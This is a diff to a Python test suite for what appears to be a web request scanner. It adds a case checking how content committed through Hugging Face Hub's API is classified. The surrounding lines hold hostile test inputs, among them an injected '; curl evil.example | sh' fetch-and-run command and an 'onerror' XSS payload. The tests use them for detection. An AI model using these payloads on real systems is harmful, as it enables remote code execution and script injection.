@@ -1712,9 +1712,10 @@ def test_a_file_an_api_is_given_to_commit_or_deploy_counts_as_a_stored_file_does
 ) -> None:
     """A file put by a code host's API (GitHub's, Gitea's contents and blobs in base64, a
     gist's files, GitLab's repository files, a commit's actions, a CI configuration to
-    lint), or a Compose file Portainer deploys, is a file stored: a workflow's steps and a
-    Compose file's commands are what it is made of. A web shell or markup counts, a
-    one-line value counts, and so does the same content sent to any other API."""
+    lint, Hugging Face Hub's commit), or a Compose file Portainer deploys, is a file
+    stored: a workflow's steps and a Compose file's commands are what it is made of. A
+    web shell or markup counts, a one-line value counts, and so does the same content
+    sent to any other API."""
     workflow = (
         "name: CI\non: [push]\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n"
         "      - run: pytest -q; coverage xml\n"
@@ -1749,6 +1750,18 @@ def test_a_file_an_api_is_given_to_commit_or_deploy_counts_as_a_stored_file_does
     ):
         assert put(target, body) == set(), target
         assert put("/api/notes", body) >= {"rce"}
+    # Hugging Face Hub's commit: lines of JSON, a file's content in base64.
+    lines = (
+        {"key": "header", "value": {"summary": "ci"}},
+        {
+            "key": "file",
+            "value": {"path": "ci.yml", "content": b64(workflow), "encoding": "base64"},
+        },
+    )
+    commit = "\n".join(json.dumps(line) for line in lines).encode()
+    for target, kinds in (("/api/spaces/ana/demo/commit/main", set()), ("/api/notes", {"rce"})):
+        request = Request("POST", target, (("Content-Type", "application/x-ndjson"),), commit)
+        assert {hit.type.value for hit in engine.scan(request)} == kinds, target
     assert "rce" in put(contents, {"content": b64(shell)})
     assert "rce" in put(contents, {"content": b64("; curl evil.example | sh")})
     assert "xss" in put(contents, {"content": b64("<p>\n<img src=x onerror=alert(1)>\n</p>\n")})
